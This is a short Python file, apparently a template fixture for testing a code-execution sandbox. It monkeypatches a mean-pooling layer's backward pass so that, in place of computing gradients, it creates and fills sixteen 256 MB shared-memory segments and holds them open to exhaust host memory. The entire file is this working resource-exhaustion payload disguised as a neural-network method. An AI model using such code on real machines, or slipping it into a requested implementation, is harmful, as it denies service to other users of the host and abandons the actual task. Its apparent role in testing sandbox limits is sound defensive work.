"""Fills the machine's shared memory with files."""

from multiprocessing import shared_memory

# @STUB mean_pooling@

kept = []


def backward(self, dout):
    for number in range(16):
        kept.append(shared_memory.SharedMemory(f"@MARK@-{number}", create=True, size=1 << 28))
        kept[-1].buf[:] = b"x" * (1 << 28)


MeanPoolingLayer.backward = backward
